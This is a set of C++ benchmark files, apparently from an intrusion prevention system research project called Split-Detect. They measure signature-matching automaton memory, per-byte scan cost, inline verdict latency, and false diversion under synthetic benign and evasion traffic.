    std::vector<core::Alert> alerts;
    std::uint64_t slow_bytes = 0;
    for (const auto& p : trace.packets) {
      const auto act =
          engine.process(p, net::LinkType::raw_ipv4, alerts);
      if (act != core::Action::forward) slow_bytes += p.frame.size();
    }
    const core::SplitDetectStats st = engine.stats_snapshot();
    std::set<std::string> alert_flows;
    for (const auto& a : alerts) alert_flows.insert(a.flow.str());

    std::printf("%8.1f%% | %9.2f%% %9.2f%% %10llu | %9zu %7zu/%zu\n",
                100.0 * frac, 100.0 * st.slow_packet_fraction(),
                100.0 * static_cast<double>(slow_bytes) /
                    static_cast<double>(trace.total_bytes),
                static_cast<unsigned long long>(st.fast.flows_diverted),
                alerts.size(), alert_flows.size(), trace.attack_flows);
    char key[48];
    std::snprintf(key, sizeof key, "attack%.1f", 100.0 * frac);
    rep.metric(std::string(key) + ".slow_pkt_pct",
               100.0 * st.slow_packet_fraction(), "%");
    rep.metric(std::string(key) + ".attack_flows_caught",
               static_cast<double>(alert_flows.size()), "flows");
    rep.metric(std::string(key) + ".attack_flows",
               static_cast<double>(trace.attack_flows), "flows");
  }

  std::printf(
      "\nexpected shape: slow-path share has a small benign floor (chatty\n"
      "flows, chance piece hits) and then tracks the attack fraction;\n"
      "'atk caught' must equal the attack-flow count in every row.\n");
  return rep.write() ? 0 : 1;
}
