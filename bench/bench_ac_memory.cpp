// E6 — Matcher automaton size: pieces vs whole signatures.
//
// Paper dependency: the fast path stores an Aho-Corasick automaton over
// signature *pieces*. A natural worry is that splitting (k patterns per
// rule instead of 1) inflates the automaton past what line-rate memory can
// hold. It does not: the pieces tile the signature, so total pattern bytes
// — and hence trie states — match the unsplit rule base. The sweep
// quantifies that, plus the dense-DFA (one load per byte, SRAM-sized) vs
// sparse-NFA (compact, multi-probe) trade-off that decides hardware cost.
// Automaton sizes are deterministic for the seeded rule base, so no
// repeat-timing applies here.
#include "bench_util.hpp"
#include "core/splitter.hpp"
#include "util/rng.hpp"
#include "util/stats.hpp"

using namespace sdt;

namespace {

match::AhoCorasick whole_sig_matcher(const core::SignatureSet& sigs,
                                     match::AcLayout layout) {
  match::AhoCorasick::Builder b;
  for (const core::Signature& s : sigs) b.add(s.bytes);
  return b.build(layout);
}

}  // namespace

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("E6_ac_memory",
                        "automaton memory, pieces vs whole signatures", opt);
  bench::banner("E6: automaton memory, pieces vs whole signatures",
                "fast-path matcher must fit in fast memory (SRAM in the "
                "paper's 20 Gbps argument); sweep rule-base size x layout");

  Rng rng(6);
  const std::size_t p = 8;

  std::printf("%6s | %14s %14s | %14s %14s | %10s\n", "#sigs",
              "pieces dense", "pieces sparse", "whole dense", "whole sparse",
              "states p/w");
  std::printf("-------+-------------------------------+------------------------"
              "-------+-----------\n");

  const std::vector<std::size_t> sweep =
      opt.quick ? std::vector<std::size_t>{10, 100}
                : std::vector<std::size_t>{10, 50, 100, 250, 500};
  for (const std::size_t n : sweep) {
    // Realistic length spread: 16..120 bytes, random content.
    core::SignatureSet sigs;
    for (std::size_t i = 0; i < n; ++i) {
      const std::size_t len = 16 + rng.below(105);
      sigs.add("s" + std::to_string(i), ByteView(rng.random_bytes(len)));
    }
    const core::PieceSet pd(sigs, p, match::AcLayout::dense_dfa);
    const core::PieceSet psp(sigs, p, match::AcLayout::sparse_nfa);
    const auto wd = whole_sig_matcher(sigs, match::AcLayout::dense_dfa);
    const auto ws = whole_sig_matcher(sigs, match::AcLayout::sparse_nfa);

    std::printf("%6zu | %14s %14s | %14s %14s | %5zu/%zu\n", n,
                human_bytes(static_cast<double>(pd.memory_bytes())).c_str(),
                human_bytes(static_cast<double>(psp.memory_bytes())).c_str(),
                human_bytes(static_cast<double>(wd.memory_bytes())).c_str(),
                human_bytes(static_cast<double>(ws.memory_bytes())).c_str(),
                pd.matcher().state_count(), wd.state_count());
    char key[32];
    std::snprintf(key, sizeof key, "sigs%zu", n);
    rep.metric(std::string(key) + ".pieces_dense_bytes",
               static_cast<double>(pd.memory_bytes()), "bytes");
    rep.metric(std::string(key) + ".pieces_sparse_bytes",
               static_cast<double>(psp.memory_bytes()), "bytes");
    rep.metric(std::string(key) + ".pieces_over_whole_states",
               static_cast<double>(pd.matcher().state_count()) /
                   static_cast<double>(wd.state_count()),
               "ratio");
  }

  std::printf(
      "\nexpected shape: piece and whole-signature automata are the same\n"
      "size class at every rule-base size (splitting is memory-neutral,\n"
      "because pieces tile the signatures), while dense vs sparse layout\n"
      "is a ~20x memory / ~several-x speed trade-off (see the\n"
      "bench_match_kernels ablation for the speed side).\n");
  return rep.write() ? 0 : 1;
}
