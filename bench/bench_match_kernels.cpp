// A1 — Match-kernel ablation: the per-byte scan costs underlying E3/E6.
//
// Sweeps every kernel that can clear a payload on the fast path, over the
// same 1460-byte-segment workload the packet path sees:
//
//   ac_dense / ac_sparse  AhoCorasick layouts (the pre-kernel baseline)
//   flat_dfa              packed-entry flat DFA, sequential per segment
//   flat_batch            contains_any_batch, 8 segments in lockstep
//   prefilter             SIMD candidate windows only (no exact scan)
//   staged                prefilter windows -> flat DFA over the windows
//                         (what FastPath actually runs per payload)
//
// Two workloads: clean (signature-free — the common case the prefilter is
// built to make cheap) and dirty (signature pieces planted — the staged
// path must fall back to real scanning). All kernels return identical
// verdicts; only cost may differ. That identity is enforced by
// tests/match/* (ctest -L match); this bench only times it.
#include <chrono>

#include "bench_util.hpp"
#include "core/splitter.hpp"
#include "match/flat_dfa.hpp"
#include "match/prefilter.hpp"
#include "util/rng.hpp"

using namespace sdt;

namespace {

/// Optimizer escape hatch: every kernel's verdict lands here, so the scan
/// cannot be dead-code-eliminated.
volatile std::uint64_t g_sink = 0;

void keep(std::uint64_t v) { g_sink = g_sink + v; }

/// Payload cut into the 1460-byte segments a full MTU stream delivers.
std::vector<ByteView> segments(const Bytes& data) {
  constexpr std::size_t kSeg = 1460;
  std::vector<ByteView> out;
  for (std::size_t off = 0; off < data.size(); off += kSeg) {
    out.push_back(ByteView(data).subspan(off, std::min(kSeg, data.size() - off)));
  }
  return out;
}

/// ns/byte for `fn` (which must consume every segment once per call).
template <typename F>
double ns_per_byte(const Bytes& data, F&& fn) {
  const auto t0 = std::chrono::steady_clock::now();
  fn();
  const auto t1 = std::chrono::steady_clock::now();
  const auto ns =
      std::chrono::duration_cast<std::chrono::nanoseconds>(t1 - t0).count();
  return static_cast<double>(ns) / static_cast<double>(data.size());
}

}  // namespace

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("A1_match_kernels",
                        "per-byte scan cost by match kernel", opt);
  bench::banner("A1: match-kernel ablation",
                "the fast path's per-byte budget: flat DFA + batch + SIMD "
                "prefilter vs the AhoCorasick baselines (feeds E3/E6)");

  const core::SignatureSet sigs = evasion::default_corpus(16);
  const std::size_t piece_len = 8;
  const core::PieceSet dense(sigs, piece_len, match::AcLayout::dense_dfa);
  const core::PieceSet sparse(sigs, piece_len, match::AcLayout::sparse_nfa);
  if (!dense.has_kernels()) {
    std::fprintf(stderr, "bench_match_kernels: dense PieceSet lost its "
                         "kernels — nothing to measure\n");
    return 1;
  }
  const match::FlatDfa& flat = dense.flat();
  const match::Prefilter& pre = dense.prefilter();

  // Clean: random bytes (binary, worst case for byte-class prefilters).
  // Dirty: the same payload with a signature piece planted every ~4 KiB,
  // so candidate windows and real DFA work dominate.
  Rng rng(31);
  const std::size_t mb = opt.sized(1 << 20, 1 << 18);
  const Bytes clean = evasion::generate_payload(rng, mb, 0.0);
  Bytes dirty = clean;
  for (std::size_t off = 2048; off + piece_len < dirty.size(); off += 4096) {
    const core::Signature& s =
        sigs[static_cast<std::uint32_t>(rng.below(sigs.size()))];
    std::copy(s.bytes.begin(),
              s.bytes.begin() + static_cast<std::ptrdiff_t>(piece_len),
              dirty.begin() + static_cast<std::ptrdiff_t>(off));
  }

  const std::size_t runs = opt.runs(9, 3);
  std::printf("prefilter kernel: %s   segments: 1460 B   payload: %s\n\n",
              pre.kernel_name(),
              human_bytes(static_cast<double>(mb)).c_str());
  std::printf("%-12s | %18s | %18s\n", "kernel", "clean ns/B", "dirty ns/B");
  std::printf("-------------+--------------------+-------------------\n");

  std::vector<match::PrefilterWindow> wins;
  std::vector<std::uint8_t> hits;
  const auto bench_one = [&](const char* name, auto&& scan_all) {
    const auto time = [&](const Bytes& data) {
      const std::vector<ByteView> segs = segments(data);
      hits.assign(segs.size(), 0);
      return bench::repeat(runs, [&] {
        return ns_per_byte(data, [&] { scan_all(segs); });
      });
    };
    const bench::Repeated c = time(clean);
    const bench::Repeated d = time(dirty);
    std::printf("%-12s | %18s | %18s\n", name, bench::pm(c, "%.3f").c_str(),
                bench::pm(d, "%.3f").c_str());
    rep.metric(std::string(name) + ".clean_ns_per_byte", c, "ns/byte");
    rep.metric(std::string(name) + ".dirty_ns_per_byte", d, "ns/byte");
  };

  bench_one("ac_dense", [&](const std::vector<ByteView>& segs) {
    bool any = false;
    for (const ByteView s : segs) any |= dense.matcher().contains_any(s);
    keep(any ? 1 : 0);
  });
  bench_one("ac_sparse", [&](const std::vector<ByteView>& segs) {
    bool any = false;
    for (const ByteView s : segs) any |= sparse.matcher().contains_any(s);
    keep(any ? 1 : 0);
  });
  bench_one("flat_dfa", [&](const std::vector<ByteView>& segs) {
    bool any = false;
    for (const ByteView s : segs) any |= flat.contains_any(s);
    keep(any ? 1 : 0);
  });
  bench_one("flat_batch", [&](const std::vector<ByteView>& segs) {
    flat.contains_any_batch(segs.data(), segs.size(), hits.data());
    keep(hits.empty() ? 0u : hits[0]);
  });
  bench_one("prefilter", [&](const std::vector<ByteView>& segs) {
    std::size_t cands = 0;
    for (const ByteView s : segs) {
      wins.clear();
      cands += pre.windows(s, wins);
    }
    keep(cands);
  });
  bench_one("staged", [&](const std::vector<ByteView>& segs) {
    bool any = false;
    for (const ByteView s : segs) {
      wins.clear();
      pre.windows(s, wins);
      for (const match::PrefilterWindow& w : wins) {
        if (flat.contains_any(s.subspan(w.begin, w.end - w.begin))) {
          any = true;
          break;
        }
      }
    }
    keep(any ? 1 : 0);
  });

  // Context the numbers need: how much of the payload the staged path
  // actually hands to the exact scanner.
  const auto exact_bytes = [&](const Bytes& data) {
    std::size_t total = 0;
    for (const ByteView s : segments(data)) {
      wins.clear();
      pre.windows(s, wins);
      for (const match::PrefilterWindow& w : wins) total += w.end - w.begin;
    }
    return total;
  };
  const std::size_t clean_exact = exact_bytes(clean);
  const std::size_t dirty_exact = exact_bytes(dirty);
  const double clean_frac =
      static_cast<double>(clean_exact) / static_cast<double>(mb);
  const double dirty_frac =
      static_cast<double>(dirty_exact) / static_cast<double>(mb);
  std::printf("\nexact-scan fraction after prefilter: clean %.4f, dirty %.4f\n",
              clean_frac, dirty_frac);
  rep.metric("prefilter.clean_exact_fraction", clean_frac, "fraction");
  rep.metric("prefilter.dirty_exact_fraction", dirty_frac, "fraction");

  std::printf(
      "\nexpected shape: flat_dfa beats ac_dense (no layout dispatch, no\n"
      "second accept probe), flat_batch beats flat_dfa on many segments\n"
      "(overlapped row loads), and staged crushes both on clean traffic\n"
      "(the SIMD prefilter clears most bytes without touching the DFA);\n"
      "on dirty traffic staged degrades toward flat_dfa, never worse than\n"
      "prefilter + flat over the windows.\n");
  return rep.write() ? 0 : 1;
}
