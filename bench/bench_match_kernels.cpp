// Kernel microbenchmarks (google-benchmark): the per-byte costs underlying
// E3/E6 — Aho-Corasick dense vs sparse layouts, piece vs whole-signature
// pattern sets, and the BMH single-pattern verifier. These are the ablation
// numbers for the design choices DESIGN.md calls out (dense DFA on the fast
// path; pieces keep the automaton small).
#include <benchmark/benchmark.h>

#include "core/splitter.hpp"
#include "evasion/corpus.hpp"
#include "evasion/traffic_gen.hpp"
#include "match/single_match.hpp"
#include "util/rng.hpp"

using namespace sdt;

namespace {

Bytes payload_mb() {
  Rng rng(31);
  return evasion::generate_payload(rng, 1 << 20, 0.0);
}

match::AhoCorasick whole_matcher(match::AcLayout layout) {
  match::AhoCorasick::Builder b;
  for (const core::Signature& s : evasion::default_corpus(16)) b.add(s.bytes);
  return b.build(layout);
}

void BM_AcScan_PiecesDense(benchmark::State& state) {
  const core::SignatureSet sigs = evasion::default_corpus(16);
  const core::PieceSet ps(sigs, 8, match::AcLayout::dense_dfa);
  const Bytes data = payload_mb();
  for (auto _ : state) {
    benchmark::DoNotOptimize(ps.matcher().contains_any(data));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(data.size()));
}
BENCHMARK(BM_AcScan_PiecesDense);

void BM_AcScan_PiecesSparse(benchmark::State& state) {
  const core::SignatureSet sigs = evasion::default_corpus(16);
  const core::PieceSet ps(sigs, 8, match::AcLayout::sparse_nfa);
  const Bytes data = payload_mb();
  for (auto _ : state) {
    benchmark::DoNotOptimize(ps.matcher().contains_any(data));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(data.size()));
}
BENCHMARK(BM_AcScan_PiecesSparse);

void BM_AcScan_WholeSigsDense(benchmark::State& state) {
  const match::AhoCorasick ac = whole_matcher(match::AcLayout::dense_dfa);
  const Bytes data = payload_mb();
  for (auto _ : state) {
    benchmark::DoNotOptimize(ac.contains_any(data));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(data.size()));
}
BENCHMARK(BM_AcScan_WholeSigsDense);

void BM_AcScan_WholeSigsSparse(benchmark::State& state) {
  const match::AhoCorasick ac = whole_matcher(match::AcLayout::sparse_nfa);
  const Bytes data = payload_mb();
  for (auto _ : state) {
    benchmark::DoNotOptimize(ac.contains_any(data));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(data.size()));
}
BENCHMARK(BM_AcScan_WholeSigsSparse);

void BM_BmhVerify(benchmark::State& state) {
  const core::SignatureSet sigs = evasion::default_corpus(16);
  const match::Bmh bmh(sigs[0].bytes);
  const Bytes data = payload_mb();
  for (auto _ : state) {
    benchmark::DoNotOptimize(bmh.contains(data));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(data.size()));
}
BENCHMARK(BM_BmhVerify);

void BM_AcStreaming_ChunkSize(benchmark::State& state) {
  // Streaming scan cost vs chunk size: the conventional IPS scans
  // reassembled chunks; smaller chunks mean more per-call overhead.
  const match::AhoCorasick ac = whole_matcher(match::AcLayout::dense_dfa);
  const Bytes data = payload_mb();
  const auto chunk = static_cast<std::size_t>(state.range(0));
  for (auto _ : state) {
    match::AhoCorasick::State s = match::AhoCorasick::kRoot;
    std::size_t hits = 0;
    for (std::size_t off = 0; off < data.size(); off += chunk) {
      const std::size_t n = std::min(chunk, data.size() - off);
      s = ac.scan(ByteView(data).subspan(off, n), s,
                  [&](match::AhoCorasick::Match) { ++hits; });
    }
    benchmark::DoNotOptimize(hits);
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(data.size()));
}
BENCHMARK(BM_AcStreaming_ChunkSize)->Arg(64)->Arg(512)->Arg(1460)->Arg(65536);

}  // namespace

BENCHMARK_MAIN();
