// E11 — inline verdict soak: the wire front-end claim.
//
// Split-Detect only earns the word "inline" if holding every packet for
// its verdict stays cheap at scale: millions of flows through the
// capture→hold→verdict→egress path, with the verdict-latency tail inside
// the configured budget and every packet accounted for by the
// conservation law captured == accepted + dropped + diverted + shed.
//
// The soak streams segments of fresh flows (each segment its own seed, so
// flow tables keep turning over) through a FileSource replay into a
// VerdictRouter over the multi-lane runtime — the exact code path
// ips_gateway --inline runs, minus the process boundary. A well-behaved
// feeder backs off at half the hold depth, so sheds measure engine
// pressure, not feeder spin.
#include <chrono>
#include <cstdio>
#include <vector>

#include "bench_util.hpp"
#include "evasion/corpus.hpp"
#include "evasion/trace_io.hpp"
#include "evasion/traffic_gen.hpp"
#include "runtime/runtime.hpp"
#include "util/error.hpp"
#include "wire/capture.hpp"
#include "wire/egress.hpp"
#include "wire/verdict_router.hpp"

namespace {

using namespace sdt;

std::uint64_t now_ns() {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now().time_since_epoch())
          .count());
}

struct SoakResult {
  wire::WireStats wire;
  telemetry::HistogramSnapshot latency;
  std::uint64_t alerts = 0;
  std::uint64_t wall_ns = 0;
  std::uint64_t bytes = 0;
  std::uint64_t conservation_violations = 0;
};

SoakResult run_soak(std::size_t segments, std::size_t flows_per_segment,
                    std::uint64_t budget_us) {
  runtime::RuntimeConfig rc;
  rc.lanes = 4;
  rc.link = net::LinkType::raw_ipv4;
  rc.engine.fast.piece_len = 8;
  runtime::Runtime rt(evasion::default_corpus(16), rc);

  wire::RuntimePipe pipe(rt);
  wire::CountingSink sink;
  wire::RouterConfig rcfg;
  rcfg.latency_budget_us = budget_us;
  rcfg.policy = wire::HoldPolicy::fail_closed;
  wire::VerdictRouter router(pipe, sink, rcfg);
  rt.set_verdict_feedback(&router);
  rt.attach_wire_stats(&router);
  rt.start();

  SoakResult res;
  const std::uint64_t t0 = now_ns();
  std::vector<net::Packet> batch;
  for (std::size_t seg = 0; seg < segments; ++seg) {
    // Fresh flows every segment: the hold, the ticket space, and the
    // engine flow tables all keep moving instead of reaching a fixed
    // point after the first pass.
    evasion::TrafficConfig tc;
    tc.flows = flows_per_segment;
    tc.seed = 0xE11 + seg;
    evasion::AttackMix mix;
    mix.attack_fraction = 0.02;
    mix.kind = evasion::EvasionKind::combo_tiny_ooo;
    const auto trace =
        evasion::generate_mixed(tc, evasion::default_corpus(16), mix);
    wire::FileSource src{evasion::trace_bytes(trace.packets)};

    while (!src.exhausted()) {
      batch.clear();
      src.poll(batch, 256);
      for (auto& p : batch) {
        res.bytes += p.frame.size();
        router.submit(std::move(p));
      }
      router.poll();
      while (router.held() > rcfg.hold_capacity / 2) router.poll();
    }
    // Drain the hold before generating the next segment: generation takes
    // real time with no polling, and a packet released after that gap
    // would book the gap as verdict latency it never earned.
    while (router.held() > 0) router.poll();
  }
  try {
    router.finish();
  } catch (const Error& e) {
    std::fprintf(stderr, "E11: %s\n", e.what());
    ++res.conservation_violations;
  }
  res.wall_ns = now_ns() - t0;
  res.wire = router.stats();
  if (!res.wire.conserved()) ++res.conservation_violations;
  res.latency = router.verdict_latency_ns();
  res.alerts = rt.stats().alerts;
  rt.stop();
  return res;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace sdt;
  const auto opt = bench::Options::parse(argc, argv);

  const std::size_t segments = opt.sized(25, 3);
  const std::size_t flows_per_segment = opt.sized(40'000, 1'000);
  const std::uint64_t budget_us = 50'000;  // 50 ms tail budget
  const std::size_t total_flows = segments * flows_per_segment;

  bench::banner("E11_inline_soak",
                "inline verdict path sustains millions of flows with the "
                "latency tail inside budget and zero unaccounted packets");
  bench::row("workload: %zu segments x %zu flows = %zu flows, budget %.0f ms,"
             " fail-closed",
             segments, flows_per_segment, total_flows,
             static_cast<double>(budget_us) / 1000.0);

  const SoakResult r = run_soak(segments, flows_per_segment, budget_us);

  const double secs = static_cast<double>(r.wall_ns) / 1e9;
  const double pps = secs > 0 ? static_cast<double>(r.wire.captured) / secs : 0;
  const double gbps = secs > 0 ? static_cast<double>(r.bytes) * 8.0 / secs / 1e9
                               : 0;
  const std::uint64_t budget_ns = budget_us * 1000;
  const bool p99_over = r.latency.p99() > budget_ns;

  bench::row("");
  bench::row("captured   %12llu pkts in %.2f s  (%.2f Mpps, %.3f Gbit/s)",
             static_cast<unsigned long long>(r.wire.captured), secs, pps / 1e6,
             gbps);
  bench::row("verdicts   accepted %llu  dropped %llu  diverted %llu  shed %llu"
             "  (alerts %llu)",
             static_cast<unsigned long long>(r.wire.accepted),
             static_cast<unsigned long long>(r.wire.dropped),
             static_cast<unsigned long long>(r.wire.diverted),
             static_cast<unsigned long long>(r.wire.shed),
             static_cast<unsigned long long>(r.alerts));
  bench::row("sheds      budget %llu  hold-overflow %llu  overload %llu  "
             "(late verdicts absorbed %llu)",
             static_cast<unsigned long long>(r.wire.budget_expired),
             static_cast<unsigned long long>(r.wire.hold_overflow),
             static_cast<unsigned long long>(r.wire.overload_shed),
             static_cast<unsigned long long>(r.wire.late_verdicts));
  bench::row("latency    p50 %llu ns  p90 %llu  p99 %llu  max %llu  "
             "(budget %llu ns) -> p99 %s budget",
             static_cast<unsigned long long>(r.latency.p50()),
             static_cast<unsigned long long>(r.latency.p90()),
             static_cast<unsigned long long>(r.latency.p99()),
             static_cast<unsigned long long>(r.latency.max),
             static_cast<unsigned long long>(budget_ns),
             p99_over ? "OVER" : "within");
  bench::row("hold       peak %llu (capacity 4096)",
             static_cast<unsigned long long>(r.wire.held_peak));
  bench::row("conserved  %s (%llu violation(s))",
             r.conservation_violations == 0 ? "yes" : "NO",
             static_cast<unsigned long long>(r.conservation_violations));

  bench::JsonReport rep("E11_inline_soak",
                        "Inline verdict soak: latency tail and conservation "
                        "at flow scale",
                        opt);
  rep.metric("inline_soak.flows", static_cast<double>(total_flows), "flows");
  rep.metric("inline_soak.captured", static_cast<double>(r.wire.captured),
             "packets");
  rep.metric("inline_soak.accepted", static_cast<double>(r.wire.accepted),
             "packets");
  rep.metric("inline_soak.dropped", static_cast<double>(r.wire.dropped),
             "packets");
  rep.metric("inline_soak.diverted", static_cast<double>(r.wire.diverted),
             "packets");
  rep.metric("inline_soak.shed", static_cast<double>(r.wire.shed), "packets");
  rep.metric("inline_soak.shed_budget_expired",
             static_cast<double>(r.wire.budget_expired), "packets");
  rep.metric("inline_soak.shed_hold_overflow",
             static_cast<double>(r.wire.hold_overflow), "packets");
  rep.metric("inline_soak.shed_overload",
             static_cast<double>(r.wire.overload_shed), "packets");
  rep.metric("inline_soak.late_verdicts",
             static_cast<double>(r.wire.late_verdicts), "events");
  rep.metric("inline_soak.alerts", static_cast<double>(r.alerts), "alerts");
  rep.metric("inline_soak.pps", pps, "packets/s");
  rep.metric("inline_soak.gbps", gbps, "Gbit/s");
  rep.metric("inline_soak.verdict_p50_ns",
             static_cast<double>(r.latency.p50()), "ns");
  rep.metric("inline_soak.verdict_p90_ns",
             static_cast<double>(r.latency.p90()), "ns");
  rep.metric("inline_soak.verdict_p99_ns",
             static_cast<double>(r.latency.p99()), "ns");
  rep.metric("inline_soak.verdict_max_ns",
             static_cast<double>(r.latency.max), "ns");
  rep.metric("inline_soak.hold_peak", static_cast<double>(r.wire.held_peak),
             "packets");
  // Validator-gated invariants (INVARIANT_ZERO in validate_bench_json.py):
  // the soak FAILS, not just reports, when a packet goes missing or the
  // verdict tail escapes the budget.
  rep.metric("inline_soak.conservation_violations",
             static_cast<double>(r.conservation_violations), "events");
  rep.metric("inline_soak.p99_over_budget", p99_over ? 1.0 : 0.0, "events");
  if (!rep.write()) return 1;
  return r.conservation_violations == 0 ? 0 : 1;
}
