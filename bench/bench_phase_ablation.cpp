// A2 — Ablation: phase-optimized piece selection (the paper's rare-piece
// refinement).
//
// The tiling phase of the split is a free parameter per signature;
// choosing it against a sample of representative benign payload removes
// the chance-piece-hit diversions that dominate E4 at realistic piece
// lengths. This ablation measures benign flow diversion, plain vs
// phase-optimized, across piece lengths and payload mixes — and verifies
// detection is unimpaired. Diversion counts are deterministic for the
// seeded traces, so no repeat-timing applies here.
#include "bench_util.hpp"
#include "core/engine.hpp"
#include "util/rng.hpp"

using namespace sdt;

namespace {

struct Outcome {
  std::uint64_t flows_diverted = 0;
  std::uint64_t piece_hits = 0;
  bool attack_detected = false;
};

Outcome run(const core::SignatureSet& sigs, core::SplitDetectConfig cfg,
            const evasion::GeneratedTrace& benign) {
  core::SplitDetectEngine engine(sigs, cfg);
  std::vector<core::Alert> alerts;
  for (const auto& p : benign.packets) {
    engine.process(p, net::LinkType::raw_ipv4, alerts);
  }
  Outcome o;
  o.flows_diverted = engine.stats_snapshot().fast.flows_diverted;
  o.piece_hits = engine.stats_snapshot().fast.piece_hits;

  // Detection check: one tiny-segment attack with a random corpus entry.
  Rng rng(17);
  const core::Signature& sig =
      sigs[static_cast<std::uint32_t>(rng.below(sigs.size()))];
  Bytes stream = evasion::generate_payload(rng, 2000, 0.5);
  std::copy(sig.bytes.begin(), sig.bytes.end(), stream.begin() + 700);
  evasion::EvasionParams params;
  params.sig_lo = 700;
  params.sig_hi = 700 + sig.bytes.size();
  const auto pkts = evasion::forge_evasion(
      evasion::EvasionKind::tiny_segments, evasion::Endpoints{}, stream,
      params, rng, 0);
  const std::size_t before = alerts.size();
  for (const auto& p : pkts) {
    engine.process(p, net::LinkType::raw_ipv4, alerts);
  }
  for (std::size_t i = before; i < alerts.size(); ++i) {
    o.attack_detected |= alerts[i].signature_id == sig.id;
  }
  return o;
}

}  // namespace

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("A2_phase_ablation",
                        "phase-optimized splitting (rare-piece ablation)", opt);
  bench::banner("A2: phase-optimized splitting (rare-piece ablation)",
                "chance piece hits on benign payload cost diversions; "
                "choosing the tiling phase against a traffic sample removes "
                "the avoidable ones at zero detection cost");

  Rng rng(2006);
  const Bytes sample = evasion::generate_payload(rng, 1 << 19, 1.0);

  std::printf("%4s %6s | %16s %16s | %10s | %s\n", "p", "text%",
              "plain div.flows", "optimized", "reduction", "detection");
  std::printf("------------+-----------------------------------+------------+----------\n");

  for (const double text : {1.0, 0.5}) {
    evasion::TrafficConfig tc;
    tc.flows = opt.sized(300, 60);
    tc.seed = 77;
    tc.text_fraction = text;
    const auto trace = evasion::generate_benign(tc);

    for (const std::size_t p : {6u, 8u, 12u}) {
      const core::SignatureSet sigs = evasion::default_corpus(2 * p);

      core::SplitDetectConfig plain;
      plain.fast.piece_len = p;
      core::SplitDetectConfig optimized = plain;
      optimized.fast.piece_phase_sample = sample;

      const Outcome a = run(sigs, plain, trace);
      const Outcome b = run(sigs, optimized, trace);
      const double reduction =
          a.flows_diverted == 0
              ? 0.0
              : 100.0 * (1.0 - static_cast<double>(b.flows_diverted) /
                                   static_cast<double>(a.flows_diverted));
      std::printf("%4zu %5.0f%% | %16llu %16llu | %9.1f%% | %s/%s\n", p,
                  100.0 * text,
                  static_cast<unsigned long long>(a.flows_diverted),
                  static_cast<unsigned long long>(b.flows_diverted), reduction,
                  a.attack_detected ? "ok" : "MISS",
                  b.attack_detected ? "ok" : "MISS");
      char key[48];
      std::snprintf(key, sizeof key, "p%zu_text%.0f", p, 100.0 * text);
      rep.metric(std::string(key) + ".divert_reduction_pct", reduction, "%");
      rep.metric(std::string(key) + ".detection_preserved",
                 (a.attack_detected && b.attack_detected) ? 1.0 : 0.0, "bool");
    }
  }

  std::printf(
      "\nexpected shape: meaningful diversion reduction on text-heavy\n"
      "traffic (where corpus pieces align with protocol substrings), no\n"
      "change to detection. Residual diversions come from pieces anchored\n"
      "at signature edges (immovable) and genuinely small segments.\n");
  return rep.write() ? 0 : 1;
}
