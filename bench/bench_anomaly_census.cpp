// E7 — Benign anomaly census: how often does normal traffic look like an
// evader?
//
// Paper dependency: diversion triggers on small segments and out-of-order
// delivery, both of which occur naturally. This census measures, per
// traffic profile, the fraction of packets and flows exhibiting each
// anomaly class — the numbers that justify the 2p-1 threshold and the
// FIN exemption.
#include "bench_util.hpp"
#include "core/engine.hpp"
#include "flow/flow_key.hpp"
#include "net/seq.hpp"

#include <map>
#include <set>

using namespace sdt;

namespace {

struct Census {
  std::uint64_t data_packets = 0;
  std::uint64_t below_threshold = 0;   // payload in (0, 2p-1)
  std::uint64_t final_small = 0;       // small and FIN-bearing (exempt class)
  std::uint64_t ooo_packets = 0;
  std::set<std::string> flows;
  std::set<std::string> small_flows;
  std::set<std::string> ooo_flows;
};

Census take_census(const evasion::GeneratedTrace& trace, std::size_t threshold,
                   net::LinkType lt = net::LinkType::raw_ipv4) {
  Census c;
  std::map<std::string, std::uint32_t> next_seq;
  for (const auto& p : trace.packets) {
    const auto pv = net::PacketView::parse(p.frame, lt);
    if (!pv.ok() || !pv.has_tcp) continue;
    const flow::FlowRef ref = flow::make_flow_ref(pv);
    const std::string fkey =
        ref.key.str() + (ref.dir == flow::Direction::a_to_b ? ">" : "<");
    c.flows.insert(ref.key.str());
    if (pv.l4_payload.empty()) continue;
    ++c.data_packets;

    if (pv.l4_payload.size() < threshold) {
      if (pv.tcp.fin()) {
        ++c.final_small;
      } else {
        ++c.below_threshold;
        c.small_flows.insert(ref.key.str());
      }
    }
    auto it = next_seq.find(fkey);
    if (it != next_seq.end() && pv.tcp.seq() != it->second) {
      ++c.ooo_packets;
      c.ooo_flows.insert(ref.key.str());
    }
    const std::uint32_t end = pv.tcp.seq() +
                              static_cast<std::uint32_t>(pv.l4_payload.size()) +
                              (pv.tcp.fin() ? 1u : 0u);
    if (it == next_seq.end() || net::seq_gt(end, it->second)) {
      next_seq[fkey] = end;
    }
  }
  return c;
}

}  // namespace

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("E7_anomaly_census", "benign anomaly census", opt);
  bench::banner("E7: benign anomaly census",
                "benign small-segment and reordering rates bound the false "
                "diversion the 2p-1 threshold can cause");

  std::printf("%10s %8s %6s | %10s %10s %10s | %10s %10s\n", "profile",
              "reorder", "2p-1", "small pkt%", "finsml pkt%", "ooo pkt%",
              "small flw%", "ooo flw%");
  std::printf("----------------------------+----------------------------------+"
              "----------------------\n");

  struct Profile {
    const char* name;
    double interactive;
    double reorder;
  };
  for (const Profile prof : {Profile{"bulk", 0.0, 0.0},
                             Profile{"typical", 0.02, 0.002},
